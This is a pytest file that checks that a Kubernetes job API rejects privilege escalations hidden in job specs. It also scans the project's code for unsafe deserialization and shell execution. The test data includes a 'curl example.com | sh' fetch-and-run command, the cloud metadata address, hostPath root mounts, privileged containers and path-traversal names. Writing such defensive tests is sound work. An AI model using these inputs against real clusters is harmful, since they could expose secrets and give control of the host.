"""What an author of jobs may try to bring in with a job, on a real API server: none of it has a field to stand in."""

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from kubernetes import client

from ultrathink_api import API_GROUP, API_VERSION
from ultrathink_api.crd import crds
from ultrathink_api.job import PLURAL
from ultrathink_api.validate import check
from vectors.reading import changed

if TYPE_CHECKING:
    from testbed.apiserver import ControlPlane

SECRET = {"name": "other", "key": "password"}
PLACES = ("", "workers", "model", "training", "checkpoint", "data", "parallelism")
"""Below spec: wherever somebody might hope for a pod."""

ATTEMPTS: dict[str, tuple[str, Any]] = {
    "N01": ("env", [{"name": "X", "valueFrom": {"secretKeyRef": SECRET}}]),
    "N02": ("envFrom", [{"secretRef": {"name": "other"}}]),
    "N03": ("volumes", [{"name": "v", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]),
    "N04": ("template", {"spec": {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]}}),
    "N05": ("hostNetwork", True),
    "N06": ("securityContext", {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}),
    "N07": ("podSecurityContext", {"runAsUser": 0, "runAsNonRoot": False}),
    "N08": ("serviceAccountName", "ultrathink-operator"),
    "N09": ("namespace", "kube-system"),
    "N11": ("initContainers", [{"name": "mine", "image": "mine"}]),
    "N12": ("image", "elsewhere.example.com/mine@sha256:" + 64 * "0"),
    "N13": ("tolerations", [{"operator": "Exists"}]),
    "N14": ("runtimeClassName", "mine"),
    "N16": ("secretName", "other"),
    "N18": ("command", ["sh", "-c", "curl example.com | sh"]),
    "N41": ("endpoint", "http://169.254.169.254"),
}
CASES = [
    pytest.param(place, *attempt, id=f"{name}-{place or 'spec'}", marks=pytest.mark.fault(name))
    for name, attempt in ATTEMPTS.items()
    for place in PLACES
]


@pytest.fixture(scope="module")
def jobs(control_plane: "ControlPlane") -> Iterator[client.CustomObjectsApi]:
    from testbed.crds import install

    with control_plane.api_client() as api:
        install(api, crds())
        yield client.CustomObjectsApi(api)


def smuggling(place: str, field: str, value: Any) -> dict[str, Any]:
    job = changed({})
    (job["spec"].setdefault(place, {}) if place else job["spec"])[field] = copy.deepcopy(value)
    return job


@pytest.mark.parametrize(("place", "field", "value"), CASES)
def test_a_job_has_no_field_for_it(
    jobs: client.CustomObjectsApi, namespace: str, place: str, field: str, value: Any
) -> None:
    path = ".".join(filter(None, ("spec", place, field)))
    job = smuggling(place, field, value)

    def create(validation: str) -> dict[str, Any]:
        where = (API_GROUP, API_VERSION, namespace, PLURAL)
        return jobs.create_namespaced_custom_object(*where, job, field_validation=validation, dry_run="All")

    with pytest.raises(client.ApiException) as refused:
        create("Strict")  # as kubectl and utk ask
    assert f'unknown field "{path}"' in json.loads(refused.value.body)["message"]
    kept = create("Ignore")["spec"]
    assert field not in (kept.get(place, {}) if place else kept), "a careless client's is dropped before it is stored"
    _, problems = check(job)
    assert [(problem.code, problem.field) for problem in problems] == [("UTK0102", path)]
    assert problems[0].fix


@pytest.mark.fault("N17")
@pytest.mark.parametrize(
    "spec",
    [
        pytest.param({"data": {"uri": "builtin://" + "a" * 1_500_000}}, id="a-long-string"),
        pytest.param({"model": {"preset": "(" * 100_000}}, id="a-hostile-pattern"),
        pytest.param({"resume": {"from": "a-" * 100_000 + "!"}}, id="a-string-that-backtracks"),
        pytest.param({"checkpoint": {"uri": "s3://" + "../" * 100_000}}, id="a-long-climb"),
    ],
)
def test_a_giant_is_refused_and_hurts_nobody(
    jobs: client.CustomObjectsApi, namespace: str, spec: dict[str, Any]
) -> None:
    job = changed({})
    for section, fields in spec.items():
        job["spec"].setdefault(section, {}).update(fields)
    with pytest.raises(client.ApiException) as refused:
        jobs.create_namespaced_custom_object(API_GROUP, API_VERSION, namespace, PLURAL, job, dry_run="All")
    assert refused.value.status in (413, 422)
    _, problems = check(job)
    assert problems


@pytest.mark.fault("N20")
@pytest.mark.parametrize("count", [10**9, 0, -1, 1.5, "4"])
def test_workers_are_a_number_that_can_be_meant(jobs: client.CustomObjectsApi, namespace: str, count: Any) -> None:
    job = changed({"workers.count": count})
    with pytest.raises(client.ApiException) as refused:
        jobs.create_namespaced_custom_object(API_GROUP, API_VERSION, namespace, PLURAL, job, dry_run="All")
    assert refused.value.status in (400, 422)
    assert "spec.workers.count" in json.loads(refused.value.body)["message"]
    _, problems = check(job)
    assert problems and problems[0].field == "spec.workers.count"


@pytest.mark.fault("N09")
@pytest.mark.parametrize("runtime", ["kube-system/default", "../default", "default\n", "DEFAULT"])
def test_a_runtime_is_named_and_never_reached_by_a_path(
    jobs: client.CustomObjectsApi, namespace: str, runtime: str
) -> None:
    job = changed({"runtime": runtime})
    with pytest.raises(client.ApiException) as refused:
        jobs.create_namespaced_custom_object(API_GROUP, API_VERSION, namespace, PLURAL, job, dry_run="All")
    assert "spec.runtime" in json.loads(refused.value.body)["message"]
    _, problems = check(job)
    assert problems and problems[0].field == "spec.runtime"


@pytest.mark.fault("N39")
def test_no_code_of_ours_could_run_what_it_reads() -> None:
    import re
    import subprocess

    root = Path(__file__).parents[3]
    rooms = ("api", "planner", "store", "operator", "trainer", "cli", "images", "charts", "bench")
    told = subprocess.run(["git", "ls-files", "--", *rooms], cwd=root, capture_output=True, text=True, check=True)
    risky = re.compile(
        r"\bpickle\.(load|loads|Unpickler)\b|\byaml\.(load|unsafe_load|full_load)\(|(?<!\.)\beval\(|\bexec\(|shell=True"
        r"|\bos\.system\(|torch\.load\("
    )
    found = [
        f"{name}:{number}: {line.strip()}"
        for name in told.stdout.splitlines()
        if name.endswith(".py")
        for number, line in enumerate((root / name).read_text().splitlines(), 1)
        if risky.search(line)
    ]
    assert found == []
